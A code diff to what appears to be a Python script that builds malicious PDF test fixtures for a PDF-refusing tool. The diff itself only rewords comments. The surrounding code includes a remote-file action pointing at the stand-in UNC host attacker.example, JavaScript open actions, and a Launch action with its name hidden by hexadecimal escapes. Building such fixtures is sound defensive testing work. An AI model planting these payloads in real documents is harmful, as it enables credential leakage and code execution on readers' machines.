@@ -96,7 +96,7 @@ def other_document(pdf: Pdf) -> Dictionary:
     return action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])
 
 
-# By reason, then by name: how the attack gets into a PDF.
+# How each attack gets into a PDF, by the reason for which it is refused and the name of its file.
 ATTACKS = {
     "javascript": {
         "open-action": by(OpenAction=lambda pdf: javascript()),
@@ -165,10 +165,10 @@ def pdfs() -> None:
         "javascript", "encrypted-with-empty-password", script, encryption=Encryption(user="", owner="o", R=6), **STREAMS
     )
     twin("javascript", "linearized", script, linearize=True)
-    # One of each producer: only the script is new.
+    # The base is one sound file of each producer, so only the script can be the reason for the refusal.
     for base in sorted({path.name.split("-")[0]: path.name for path in SOUND.glob("*.pdf")}.values()):
         twin("javascript", f"twin-of-{base.removesuffix('.pdf')}", script, base=base, **STREAMS)
-    # As long as before, so that the offsets hold.
+    # The new name is as long as the old one, so the offsets in the file stay valid.
     plain = (OUT / "launch" / "link-plain.pdf").read_bytes()
     write("launch", "name-in-hexadecimal.pdf", plain.replace(b"/Launch", b"/#4caun#63h").replace(b"....calc", b"calc"))
     plain = (OUT / "javascript" / "open-action-plain.pdf").read_bytes()
